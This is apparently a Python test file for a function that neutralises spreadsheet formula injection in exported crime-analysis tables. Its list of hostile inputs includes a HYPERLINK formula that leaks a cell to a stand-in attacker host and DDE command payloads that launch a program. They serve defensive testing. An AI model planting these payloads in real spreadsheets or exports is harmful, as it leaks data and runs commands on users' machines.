"""Text cells a spreadsheet would run are written as text; numbers stay numbers."""

from __future__ import annotations

import pandas as pd
import pytest

from safer_analysis.present.cells import neutralise, neutralise_frame

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "=1+1",
    "=2 of 8",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-5%+1",
    "- see the note",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "   =1+1",  # leading spaces do not hide the sign
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "\rplain after a carriage return",
    "\n=1+1",
]

HARMLESS = [
    "Burglary",
    "Vehicle crime",
    "1+1",  # no sign at the start: text to every spreadsheet
    "a=b",
    "[Report a concern](https://evil.example)",  # not a formula (the workbook keeps it from being a link)
    "'=already neutralised",
    "",
    "2 of 8",
    "£1,200",
    "{=1+1}",  # an array formula only when typed; the workbook writes it as text
]

#: Signed numbers written as text: a spreadsheet reads them as numbers, never formulas; they stay.
SIGNED_NUMBERS = ["-5%", "+14.7%", "-£1,200", "+3.5", "-12", "-1,234,567.25"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS + SIGNED_NUMBERS)
def test_other_text_is_written_as_it_is(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -0.25, 3, 1.5, 0, True, None, float("nan"), pd.Timestamp("2018-04-01")])
def test_numbers_and_other_values_are_untouched(value):
    out = neutralise(value)
    assert out is value


@pytest.mark.parametrize("value", HOSTILE + HARMLESS + SIGNED_NUMBERS)
def test_neutralising_twice_changes_nothing(value):
    assert neutralise(neutralise(value)) == neutralise(value)


def test_a_frame_keeps_its_numbers_and_neutralises_text_and_headings():
    frame = pd.DataFrame(
        {
            "project": ["=1+1", "Street pastors", "-5%"],
            "change": [-5.5, 0.0, 14.7],
            "count": [-3, 4, 5],
            "=heading": ["+1+1", "@x", None],
            "type": pd.Categorical(["=a", "b", "=a"]),
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["project", "change", "count", "'=heading", "type"]
    assert list(out["project"]) == ["'=1+1", "Street pastors", "-5%"]
    assert list(out["type"]) == ["'=a", "b", "'=a"]
    assert out["change"].dtype == frame["change"].dtype and list(out["change"]) == [-5.5, 0.0, 14.7]
    assert out["count"].dtype == frame["count"].dtype and list(out["count"]) == [-3, 4, 5]
    assert list(out["'=heading"])[:2] == ["'+1+1", "'@x"] and pd.isna(out["'=heading"].iloc[2])
    assert list(frame["project"]) == ["=1+1", "Street pastors", "-5%"]  # the input is not changed
